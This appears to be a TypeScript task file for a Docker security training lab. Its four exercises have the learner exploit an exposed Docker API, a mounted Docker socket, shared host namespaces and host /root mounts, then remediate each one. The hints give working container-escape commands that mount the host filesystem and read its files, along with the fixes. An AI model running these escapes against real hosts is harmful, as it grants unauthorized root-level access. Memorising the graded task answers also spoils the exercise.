import { type TaskDefinition, msg } from '../../contract/index.ts'

export const tasks: readonly TaskDefinition[] = [
  {
    id: 'api',
    title: msg`The API on the network`,
    description: msg`As \`__stranger__\`, which was given nothing, read __apiFile__ of master through Docker’s API on port __apiPort__: \`answer api WORD\`. Then close that port: no port of master gives Docker without a certificate. The three services still answer.`,
    points: 25,
    hints: [
      msg`From a container, master is the gateway: \`docker exec __stranger__ ip route\`. And there is a docker command in it: \`docker -H tcp://ADDRESS:__apiPort__ ps\`.`,
      msg`Who may start containers may mount: \`docker -H … run --rm --network none -v /:/h bulkhead/shell cat /h__apiFile__\`.`,
      msg`To close it, look where the port comes from: \`systemctl cat docker\`.`,
      msg`Remove /etc/systemd/system/docker.service.d/remote-api.conf, then \`systemctl daemon-reload\` and \`systemctl restart docker\`.`,
    ],
  },
  {
    id: 'socket',
    title: msg`The socket in a container`,
    description: msg`From inside \`__dashboard__\`, read __socketFile__ of master through Docker’s socket: \`answer socket WORD\`. Then no running container holds that socket any more, and \`__dashboard__\` still serves its page on port __dashboardPort__.`,
    points: 25,
    hints: [
      msg`\`docker exec __dashboard__ docker ps\` talks to the daemon outside: the socket is mounted.`,
      msg`The same trick as with the API: \`docker exec __dashboard__ docker run --rm --network none -v /:/h bulkhead/shell cat /h__socketFile__\`.`,
      msg`A mount can’t be taken away from a container; make it anew without: \`docker run -d --name __dashboard__ --restart unless-stopped -p __dashboardPort__:8080 lab/page\`.`,
    ],
  },
  {
    id: 'namespaces',
    title: msg`The host’s namespaces`,
    description: msg`\`__ledger__\` on master tells its word to who knows its key, on 127.0.0.1 only. From inside \`__monitor__\`, find key and port in its command line and ask it: \`answer namespaces WORD\`. Then no running container shares a namespace with master, has more than Docker’s default capabilities, or lacks a seccomp filter; \`__monitor__\` still serves its page on port __monitorPort__.`,
    points: 25,
    hints: [
      msg`With \`--pid host\` a container sees all processes with their arguments: \`docker exec __monitor__ ps | grep __ledger__\`.`,
      msg`The first argument is the port, the second the key. With \`--network host\`, 127.0.0.1 in the container is master’s own: \`docker exec __monitor__ wget -qO- http://127.0.0.1:PORT/KEY\`.`,
      msg`\`docker inspect\` shows what it was given: PidMode, NetworkMode, CapAdd, SecurityOpt. A page needs none of it, only a published port.`,
      msg`\`docker rm -f __monitor__\`, then \`docker run -d --name __monitor__ --restart unless-stopped -p __monitorPort__:8080 lab/page\`.`,
    ],
  },
  {
    id: 'mounts',
    title: msg`Root’s home`,
    description: msg`From inside \`__backup__\`, read /root/__mountFile__ of master: \`answer mounts WORD\`. Then no running container holds /root or /etc of master, not even to read, and \`__backup__\` still serves its page on port __backupPort__.`,
    points: 25,
    hints: [
      msg`\`docker inspect -f "{{range .Mounts}}{{.Source}} at {{.Destination}} {{end}}" __backup__\` tells where it sees what.`,
      msg`\`docker exec __backup__ cat /backup/__mountFile__\`.`,
      msg`Read-only does not help against reading. Make it anew without: \`docker run -d --name __backup__ --restart unless-stopped -p __backupPort__:8080 lab/page\`.`,
    ],
  },
]
